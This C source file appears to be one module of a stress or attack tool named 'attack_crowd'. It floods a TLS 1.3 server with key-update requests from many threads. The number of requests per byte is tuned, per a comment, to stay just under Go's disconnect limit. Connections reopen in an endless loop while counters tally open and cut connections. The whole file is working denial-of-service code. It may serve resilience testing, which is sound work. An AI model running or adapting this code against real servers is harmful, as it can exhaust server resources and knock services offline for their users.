/* SPDX-License-Identifier: MPL-2.0 */
#include "crowd.h"

#include <stdio.h>
#include <stdlib.h>

#ifndef HAVE_OPENSSL

void crowd_change_keys (const struct crowd *crowd)
{
    (void) crowd;
    fprintf (stderr, "attack_crowd: changes of keys need OpenSSL when this is built\n");
    exit (3);
}

#else

#include <fcntl.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <pthread.h>
#include <sys/socket.h>
#include <unistd.h>

#define CHANGES_PER_BYTE 14 /* Go ends a connection that makes more of them in a row */

static const struct crowd *crowd;
static SSL_CTX *tls;

/* A descriptor that blocks. */
static int dial (uint32_t number)
{
    int fd = peer_connect (crowd->port, NETWORK_ATTACK, number, 0);
    if (fd < 0)
        return -1;
    struct pollfd up = {fd, POLLOUT, 0};
    poll (&up, 1, 10000);
    fcntl (fd, F_SETFL, fcntl (fd, F_GETFL) & ~O_NONBLOCK);
    return fd;
}

/* change goes on until the server has ended the connection; it is blocked while the server
 * does not read. */
static void change (SSL *ssl)
{
    SSL_write (ssl, "\0\1\0\0", 4); /* a message that goes on */
    for (;;) {
        for (int i = 0; i < CHANGES_PER_BYTE; i++)
            if (SSL_key_update (ssl, SSL_KEY_UPDATE_REQUESTED) != 1 || SSL_do_handshake (ssl) != 1)
                return;
        if (SSL_write (ssl, "x", 1) != 1)
            return;
        atomic_fetch_add (&crowd->tally->bytes, 1);
    }
}

static void *attack (void *number)
{
    for (;; sleep (1)) {
        int fd = dial ((uint32_t) (uintptr_t) number);
        SSL *ssl = SSL_new (tls);
        SSL_set_fd (ssl, fd);
        if (fd >= 0 && SSL_connect (ssl) == 1) {
            atomic_fetch_add (&crowd->tally->opened, 1);
            atomic_fetch_add (&crowd->tally->open, 1);
            change (ssl);
            atomic_fetch_sub (&crowd->tally->open, 1);
            atomic_fetch_add (&crowd->tally->cut, 1);
        } else
            atomic_fetch_add (&crowd->tally->refused, 1);
        SSL_free (ssl);
        if (fd >= 0)
            peer_reset (fd);
    }
    return NULL;
}

void crowd_change_keys (const struct crowd *c)
{
    crowd = c;
    tls = SSL_CTX_new (TLS_client_method ());
    SSL_CTX_set_ciphersuites (tls, "TLS_AES_128_GCM_SHA256");
    for (uint32_t i = 0; i < c->most; i++) {
        pthread_t thread;
        pthread_create (&thread, NULL, attack, (void *) (uintptr_t) (c->number + i));
    }
    for (;;)
        pause ();
}

#endif
